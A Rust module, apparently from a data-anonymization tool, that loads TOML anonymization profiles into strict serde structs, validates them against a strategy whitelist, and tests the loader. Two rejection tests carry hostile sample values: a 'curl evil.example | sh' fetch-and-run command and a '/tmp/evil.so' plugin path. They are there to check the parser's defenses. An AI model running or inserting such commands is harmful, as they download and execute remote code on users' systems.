//! Profile loading
//!
//! Profiles arrive as external, semi-trusted documents. Loading is
//! restricted to plain TOML deserialization into closed serde structs
//! (`deny_unknown_fields` at every level): the parser can only produce
//! scalars, sequences, and mappings, never instantiate types or execute
//! anything embedded in the document. Validation against the registry's
//! strategy whitelist happens before the profile is returned, so a
//! profile in hand is always a usable one.

use super::model::AnonymizationProfile;
use crate::anonymization::registry::StrategyRegistry;
use crate::domain::{CloakError, Result};
use std::fs;
use std::path::Path;

/// Loads and validates a profile from a TOML file.
///
/// # Errors
///
/// Returns a `Configuration` error when the file is missing or unreadable,
/// the document is not valid TOML, the document carries unknown fields, or
/// validation against the registry fails.
///
/// # Examples
///
/// ```no_run
/// use cloak::anonymization::registry;
/// use cloak::profile::load_profile;
///
/// let registry = registry::snapshot();
/// let profile = load_profile("profiles/staging.toml", &registry).expect("invalid profile");
/// ```
pub fn load_profile(
    path: impl AsRef<Path>,
    registry: &StrategyRegistry,
) -> Result<AnonymizationProfile> {
    let path = path.as_ref();

    if !path.exists() {
        return Err(CloakError::Configuration(format!(
            "Profile file not found: {}",
            path.display()
        )));
    }

    let contents = fs::read_to_string(path).map_err(|e| {
        CloakError::Configuration(format!(
            "Failed to read profile file {}: {}",
            path.display(),
            e
        ))
    })?;

    parse_profile(&contents, registry)
}

/// Parses and validates a profile from TOML text.
pub fn parse_profile(contents: &str, registry: &StrategyRegistry) -> Result<AnonymizationProfile> {
    let profile: AnonymizationProfile = toml::from_str(contents)
        .map_err(|e| CloakError::Configuration(format!("Failed to parse profile TOML: {e}")))?;

    profile.validate_against(registry)?;

    tracing::debug!(
        profile = %profile.name,
        version = %profile.version,
        tables = profile.tables.len(),
        "Profile loaded"
    );

    Ok(profile)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use tempfile::NamedTempFile;

    const VALID_PROFILE: &str = r#"
name = "staging"
version = "1"
global_seed = 42

[[tables.users.rules]]
column = "email"
strategy = { type = "hash" }

[[tables.users.rules]]
column = "full_name"
strategy = { type = "name" }

[[tables.orders.rules]]
column = "customer_email"
strategy = { type = "hash", seed = 7 }
"#;

    #[test]
    fn test_parse_valid_profile() {
        let registry = StrategyRegistry::with_builtins();
        let profile = parse_profile(VALID_PROFILE, &registry).unwrap();
        assert_eq!(profile.name, "staging");
        assert_eq!(profile.global_seed, Some(42));
        assert_eq!(profile.tables.len(), 2);
        let users = &profile.tables["users"];
        assert_eq!(users.rules.len(), 2);
        assert_eq!(users.rules[0].column, "email");
    }

    #[test]
    fn test_parse_compose_rule() {
        let registry = StrategyRegistry::with_builtins();
        let contents = r#"
name = "staging"
version = "1"
global_seed = 42

[[tables.users.rules]]
column = "bio"

[tables.users.rules.compose]
stop_on_error = false
steps = [
    { type = "text_redaction" },
    { type = "hash" },
]
"#;
        let profile = parse_profile(contents, &registry).unwrap();
        let rule = &profile.tables["users"].rules[0];
        let spec = rule.compose.as_ref().unwrap();
        assert_eq!(spec.steps.len(), 2);
        assert!(!spec.stop_on_error);
        assert_eq!(rule.strategy_label(), "compose(text_redaction+hash)");
    }

    #[test]
    fn test_unknown_strategy_type_rejected() {
        let registry = StrategyRegistry::with_builtins();
        let contents = r#"
name = "staging"
version = "1"

[[tables.users.rules]]
column = "email"
strategy = { type = "not_a_real_type" }
"#;
        let err = parse_profile(contents, &registry).unwrap_err();
        assert!(matches!(err, CloakError::Configuration(_)));
        assert!(err.to_string().contains("not_a_real_type"));
    }

    #[test]
    fn test_unknown_top_level_key_rejected() {
        let registry = StrategyRegistry::with_builtins();
        let contents = r#"
name = "staging"
version = "1"
plugin_path = "/tmp/evil.so"
"#;
        assert!(parse_profile(contents, &registry).is_err());
    }

    #[test]
    fn test_unknown_rule_key_rejected() {
        let registry = StrategyRegistry::with_builtins();
        let contents = r#"
name = "staging"
version = "1"

[[tables.users.rules]]
column = "email"
strategy = { type = "hash" }
shell = "curl evil.example | sh"
"#;
        assert!(parse_profile(contents, &registry).is_err());
    }

    #[test]
    fn test_malformed_toml_rejected() {
        let registry = StrategyRegistry::with_builtins();
        assert!(parse_profile("name = = =", &registry).is_err());
    }

    #[test]
    fn test_load_profile_from_file() {
        let registry = StrategyRegistry::with_builtins();
        let mut file = NamedTempFile::new().unwrap();
        file.write_all(VALID_PROFILE.as_bytes()).unwrap();
        file.flush().unwrap();

        let profile = load_profile(file.path(), &registry).unwrap();
        assert_eq!(profile.name, "staging");
    }

    #[test]
    fn test_load_profile_missing_file() {
        let registry = StrategyRegistry::with_builtins();
        let err = load_profile("does-not-exist.toml", &registry).unwrap_err();
        assert!(err.to_string().contains("not found"));
    }
}
